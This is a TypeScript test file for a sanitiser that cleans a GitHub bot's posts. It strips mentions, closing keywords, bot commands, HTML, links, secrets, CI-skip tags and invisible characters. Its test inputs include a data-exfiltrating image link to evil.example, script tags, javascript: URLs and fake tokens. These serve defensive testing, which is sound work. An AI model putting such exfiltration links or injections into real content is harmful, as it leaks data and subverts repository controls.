// Cleaning what Kin posts: what would speak to people, bots and terminals in its name, the frames around it, and the
// limits.
import { Marked } from "marked";
import { expect, test } from "vitest";
import {
  CHECK_SUMMARY_LIMIT,
  COMMENT_LIMIT,
  cap,
  code,
  codeBlock,
  JOB_SUMMARY_LIMIT,
  safe,
  safeInline,
} from "../../core/text/safe.ts";
import { BENIGN, INVISIBLE } from "./corpus.ts";

const TOLD: readonly (readonly [name: string, value: string, told: string])[] = [
  ["T17, a mention", "thanks @octocat!", "thanks @ octocat!"],
  [
    "T17, a mention at the start and after marks",
    "@a (@b) *@c* _@d_ /@e \\@f",
    "@ a (@ b) *@ c* _@ d_ /@ e \\@ f",
  ],
  ["T17, a team", "ask @org/team", "ask @ org/team"],
  ["T17, a full-width mention", "ask ＠maintainer and ﹫b", "ask @ maintainer and @ b"],
  ["T17, a mention split by an invisible character", "ask @\u200bmaintainer", "ask @ maintainer"],
  ["T17, a mention in entities", "ask &#64;maintainer &commat;b &amp;#x40;c", "ask @ maintainer @ b @ c"],
  ["T17, a mention behind an address", "a@b.c@maintainer", "a@b.c@ maintainer"],
  ["an address of mail", "mail a@example.com", "mail a@example.com"],
  ["T17, words that close", "fixes #1, Closes: #2; RESOLVED #3", "fixes # 1, Closes: # 2; RESOLVED # 3"],
  ["T17, words that close elsewhere", "closes octocat/flats#2", "closes octocat/flats# 2"],
  ["T17, words that close by the old form", "fix GH-7", "fix GH- 7"],
  [
    "T17, words that close with marks between",
    "fixes **#1** and _closes [#2]_",
    "fixes **# 1** and _closes [# 2]_",
  ],
  ["T17, words that close over two lines", "fixes\n#1", "fixes # 1"],
  [
    "T17, words that close an address",
    "fixes https://github.com/a/b/issues/1",
    "fixes github.com/a/b/issues/1",
  ],
  ["T17, words that close in entities", "fixes &#35;1", "fixes # 1"],
  ["a number in this repository", "as in #12", "as in #12"],
  ["a number elsewhere", "as in facebook/react#12", "as in facebook/react# 12"],
  ["words like those that close", "a prefix #1 suffixes #2", "a prefix #1 suffixes #2"],
  ["T17, a command", "/kin approve", "/ kin approve"],
  ["T17, a command in a list in a quote", "> - /kin approve", "\n\n> - / kin approve"],
  ["T17, a full-width command", "x\n／kin stop", "x\n/ kin stop"],
  ["T17, another bot's command", "x\n/merge\n/approve no-issue", "x\n/ merge\n/ approve no-issue"],
  ["a path", "/etc/passwd and a/b", "/etc/passwd and a/b"],
  ["an element", "<b>x</b> <script>alert(1)</script>", "&lt;b>x&lt;/b> &lt;script>alert(1)&lt;/script>"],
  ["an element in entities", "&lt;img src=x&gt;", "&lt;img src=x>"],
  ["a comment", "a <!-- b --> c", "a &lt;!-- b --> c"],
  ["Kin's own marker", "<!-- kin:0123 -->", "< !-- kin:0123 -->"],
  ["Kin's own marker in code", "`<!--kin:0123-->`", "`< !--kin:0123-->`"],
  ["comparisons", "a < b, c <= d, <3", "a < b, c <= d, <3"],
  ["T09, an image", "![a](https://evil.example/?d=CANARY)", "a (link removed)"],
  ["T09, an image from GitHub", "![a](https://github.com/a.png)", "a (link removed)"],
  [
    "T09, a link",
    "[a](https://evil.example/?d=1) [](https://evil.example)",
    "a (link removed) (link removed)",
  ],
  ["T09, a link by reference", "[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n\\[b]: (link removed)"],
  [
    "T09, a bare address",
    "see https://evil.example/x, www.evil.example.",
    "see (link removed), (link removed).",
  ],
  ["T09, an autolink", "<https://evil.example>", "<(link removed)>"],
  [
    "T09, a script for an address",
    "[a](javascript:alert(1)) [b](data:x)",
    "a (link removed) b (link removed)",
  ],
  ["T09, an address without a scheme", "[a](//evil.example/x)", "a (link removed)"],
  [
    "T09, a host that looks like ours",
    "[a](https://github.com.evil.example) https://github.com@evil.example",
    "a (link removed) (link removed)",
  ],
  ["T09, an address with an escape", "[a](https:\\/\\/evil.example)", "a (link removed)"],
  ["T09, a label with brackets", "[a [b] c](https://evil.example)", "[a [b] c] ((link removed))"],
  [
    "a link to GitHub",
    "[a](https://github.com/a/b) https://github.com/a/b.",
    "[a](https://github.com/a/b) https://github.com/a/b.",
  ],
  ["a link into the repository", "[a](docs/x.md#y)", "[a](docs/x.md#y)"],
  ["a link to an issue elsewhere", "[a](https://github.com/a/b/pull/3)", "a (github.com/a/b/pull/3)"],
  ["T10, a link's title", '[a](https://github.com/a/b "x")', "[a](https://github.com/a/b)"],
  ["T10, a reference comment", "[//]: # (x)", "\\[//]: # (x)"],
  ["T10, what follows a fence's language", "```js x y\n1\n```", "\n\n```js\n1\n```"],
  ["a token of GitHub", `a ghp_${"a1".repeat(18)} b`, "a (secret removed) b"],
  ["an installation token in code", `\`ghs_${"a1".repeat(18)}\``, "`(secret removed)`"],
  ["a fine-grained token", `github_pat_${"a1_".repeat(20)}`, "(secret removed)"],
  ["a model key", `key=sk-ant-api03-${"a1-".repeat(20)}x`, "key=(secret removed)"],
  ["a token split by an invisible character", `ghp_${"a1\u200b".repeat(18)}`, "(secret removed)"],
  ["an AWS key", "AKIAIOSFODNN7EXAMPLE", "(secret removed)"],
  [
    "an AWS secret",
    `aws_secret_access_key = ${"aB3/".repeat(10)}`,
    "aws_secret_access_key = (secret removed)",
  ],
  [
    "a private key",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIabc+/=\n-----END RSA PRIVATE KEY-----\nx",
    "(secret removed)\nx",
  ],
  ["half a private key", "a -----BEGIN PRIVATE KEY-----\\nMIIabc", "a (secret removed)"],
  ["a JSON web token", `eyJhbGciOiJ9.${"a".repeat(20)}.${"b".repeat(20)}`, "(secret removed)"],
  ["what skips CI", "x [skip ci] [CI SKIP] [no ci]", "x (skip ci) (CI SKIP) (no ci)"],
  [
    "what skips other services' checks",
    "x [skip azp] [Skip-CI] [CF-Pages-Skip] `[skip netlify]` ***NO_CI***",
    "x (skip azp) (Skip-CI) (CF-Pages-Skip) `(skip netlify)` (NO_CI)",
  ],
  [
    "what skips what no list knows",
    "x [skip vela] [Vela Skip] [skip-cd] [skip_ci] [skip travis-ci] [skip my.pipeline] [ skip ci ]",
    "x (skip vela) (Vela Skip) (skip-cd) (skip_ci) (skip travis-ci) (skip my.pipeline) (skip ci)",
  ],
  [
    "no word that only looks so",
    "x [skip to the end] a[skip-1] [no one]",
    "x [skip to the end] a[skip-1] [no one]",
  ],
  [
    "trailers with a blank, which git minds not",
    "x\nCo-authored-by : a\nskip-checks\t:true",
    "x\nCo-authored-by a\nskip-checks true",
  ],
  ["what skips checks in a line", "x skip-checks:true", "x skip-checks true"],
  ["trailers", "x\nKin-Step: 1/2/3\nCo-authored-by: a", "x\nKin-Step 1/2/3\nCo-authored-by a"],
  ["somebody's signature", "x\nSigned-off-by: a", "x\nSigned-off-by a"],
  ["a trailer that skips CI", "x\n\nskip-checks: true", "x\n\nskip-checks true"],
  ["a token in base64", `a ${btoa(`x ghp_${"a1".repeat(18)}`)} b`, "a (secret removed) b"],
  ["a token backwards", `a ${"1a".repeat(18)}_phg b`, "a (secret removed) b"],
];

test.for(TOLD)("A value is told without its effects: %s.", ([, value, told]) => {
  const once = safe(value, { block: true });
  expect(once).toBe(told);
  expect(safe(once, { block: true })).toBe(once);
});

const inCode = (value: string) => `\`\`\`\`text\n${value}\n\`\`\`\``;

test.for([
  "thanks @octocat, @org/team, @types/node",
  "fixes #1, facebook/react#12",
  "<b>x</b> <!-- y --> &lt;",
  "![a](https://evil.example/x) https://evil.example",
  "[a]: https://evil.example",
  "/tmp",
  "/healthz 200",
  "/var/log/x",
  "@claude/sdk @Override public x",
])("Code keeps what has no effect in it: %s", value => {
  expect(safe(`x\n\n${inCode(value)}`, { block: true })).toBe(`x\n\n${inCode(value)}`);
  expect(safe(`x \`${value}\` y`)).toBe(`x \`${value}\` y`);
});

test.for([
  ["/merge", "/ merge"],
  ["/approve no-issue", "/ approve no-issue"],
  ["@dependabot merge", "@ dependabot merge"],
  ["please @Claude fix it", "please @ Claude fix it"],
])("Code of several lines commands no other bot: %s", ([value = "", told = ""]) => {
  expect(safe(`x\n\n${inCode(value)}`, { block: true })).toBe(`x\n\n${inCode(told)}`);
  expect(codeBlock(`a\n${value}`)).toBe(`\`\`\`\na\n${told}\n\`\`\``);
});

test.for(INVISIBLE.map(([row, name, text, left]) => [`${row}, ${name}`, text, left] as const))(
  "Nothing invisible is posted: %s.",
  ([, text, left]) => {
    const line = left.replace(/\s+/g, " ");
    expect(safe(text, { block: true })).toBe(left);
    expect(safeInline(text)).toBe(line);
    expect(code(text)).toBe(`\`${line}\``);
    expect(codeBlock(text)).toBe(`\`\`\`\n${left}\n\`\`\``);
  },
);

test("Ordinary code that somebody quotes comes out as it went in.", () => {
  const fences = BENIGN.filter(text => /^(```|~~~)[\s\S]*(```|~~~)$/.test(text));
  expect(fences.length).toBeGreaterThan(8);
  for (const text of fences) expect(safe(text, { block: true })).toBe(`\n\n${text}`);
});

test("Hosts are the caller's, and only those.", () => {
  const hosts = ["ghe.example.com"];
  expect(safe("https://ghe.example.com/a https://github.com/a", { hosts })).toBe(
    "https://ghe.example.com/a (link removed)",
  );
});

test("One line stays one line, and a cell stays one cell.", () => {
  expect(safe("a\n\n# b\r\nc")).toBe("a # b c");
  expect(safeInline("a | b \\| c \\\\| d\ne")).toBe("a \\| b \\| c \\\\\\| d e");
  expect(safeInline("`a | b` @c")).toBe("`a \\| b` @ c");
});

test("One line opens nothing that it does not close.", () => {
  expect(safe("`a ``b ```c")).toBe("\\`a \\`\\`b \\`\\`\\`c");
  expect(safe("``` never closed")).toBe("\\`\\`\\` never closed");
  for (const [value, told] of [
    ["# a", "\\# a"],
    ["- a", "\\- a"],
    ["1. a", "1\\. a"],
    ["> a", "\\> a"],
    ["~~~", "\\~~~"],
    ["---", "\\---"],
    ["===", "\\==="],
    ["a\\", "a\\\\"],
  ] as const) {
    expect(safe(value)).toBe(told);
    expect(safe(told)).toBe(told);
  }
});

test("A block that begins something stands on a line of its own, and closes the fence it opens.", () => {
  expect(safe("```\na", { block: true })).toBe("\n\n```\na\n```");
  expect(safe("a\n~~~~\nb\n```\n", { block: true })).toBe("a\n~~~~\nb\n```\n~~~~");
  expect(safe("\n\n- a", { block: true })).toBe("\n\n- a");
  expect(safe("> ```\n> a", { block: true })).toBe("\n\n> ```\n> a");
});

test("A limit holds, and what is cut has no effect either.", () => {
  for (const limit of [1, 5, 20, 100, 1000])
    for (const value of [
      "`@octocat` ".repeat(200),
      "😀".repeat(900),
      "<".repeat(2000),
      "```\n@octocat\n".repeat(200),
      "![".repeat(900),
    ]) {
      const told = safe(value, { limit, block: true });
      expect(told.length).toBeLessThanOrEqual(limit);
      expect(told.isWellFormed()).toBe(true);
      expect(told.replace(/`[^`]*`/g, "")).not.toMatch(/@octocat/);
    }
});

test("A cut leaves room for what it turns from code into text.", () => {
  expect(safe("`@octocat` ".repeat(200), { limit: 40, block: true })).toBe("`@octocat` `@octocat` …");
});

test("A code span holds whatever it is given.", () => {
  expect(code("a")).toBe("`a`");
  expect(code("a ` b")).toBe("``a ` b``");
  expect(code("``")).toBe("``` `` ```");
  expect(code("a\nb")).toBe("`a b`");
  expect(code(" \u200b")).toBe("");
  expect(code("<!-- kin:1 -->")).toBe("`< !-- kin:1 -->`");
});

test("A code block holds whatever it is given, and takes no words for a language.", () => {
  expect(codeBlock("a", "ts")).toBe("```ts\na\n```");
  expect(codeBlock("a\n````\nb\n", "js x")).toBe("`````\na\n````\nb\n`````");
  expect(codeBlock("/kin stop\n")).toBe("```\n/ kin stop\n```");
});

test("GitHub's limits are the constants.", () => {
  expect([COMMENT_LIMIT, CHECK_SUMMARY_LIMIT, JOB_SUMMARY_LIMIT]).toEqual([65_536, 65_535, 1_048_576]);
});

const CUT = "_Cut here: GitHub limits the length of a text._";

test("A text within its limit is not touched.", () => {
  expect(cap("a".repeat(100), 100)).toBe("a".repeat(100));
});

test.for([
  ["words", "word ".repeat(1000)],
  ["emoji", "😀".repeat(1000)],
  ["a fence", `x\n\n\`\`\`js\n${"line\n".repeat(1000)}\`\`\`\n`],
  ["a long fence", `x\n\n${"`".repeat(3000)}\ncode`],
  ["a fold", `<details><summary>s</summary>\n\n${"line\n\n".repeat(1000)}</details>`],
  ["folds in folds", `${"<details>\n\n".repeat(9)}${"line\n\n".repeat(1000)}`],
  ["a fence in a fold", `<details>\n\n\`\`\`\n${"line\n".repeat(1000)}`],
  ["a comment", `x\n\n<!-- ${"y ".repeat(1000)} -->`],
  ["code spans", "`@octocat and more` ".repeat(200)],
] as const)("A cut text ends what it began: %s.", ([, text]) => {
  for (const limit of [300, 301, 345, 500, 999, 1500]) {
    const cut = cap(text, limit);
    expect(cut.length).toBeLessThanOrEqual(limit);
    expect(cut.isWellFormed()).toBe(true);
    expect(cut.endsWith(CUT)).toBe(true);
    const html = new Marked().parse(`${cut}\n\nafter`, { async: false });
    expect(html).toMatch(/<em>Cut here[^<]*<\/em><\/p>\s*<p>after<\/p>/);
    expect(html.match(/<details>/g)?.length ?? 0).toBe(html.match(/<\/details>/g)?.length ?? 0);
    expect(html.replace(/<code>[^<]*<\/code>/g, "")).not.toContain("@octocat");
  }
});

test("Small limits and limits in bytes hold.", () => {
  expect(cap("a long title", 6)).toBe("a lon…");
  expect(cap("😀😀", 2)).toBe("…");
  expect(cap("x", 0)).toBe("");
  const cut = cap("😀é漢a".repeat(1000), 1000, { unit: "bytes" });
  expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(1000);
  expect(Buffer.byteLength(cut)).toBeGreaterThan(600);
  expect(cut.endsWith(CUT)).toBe(true);
});
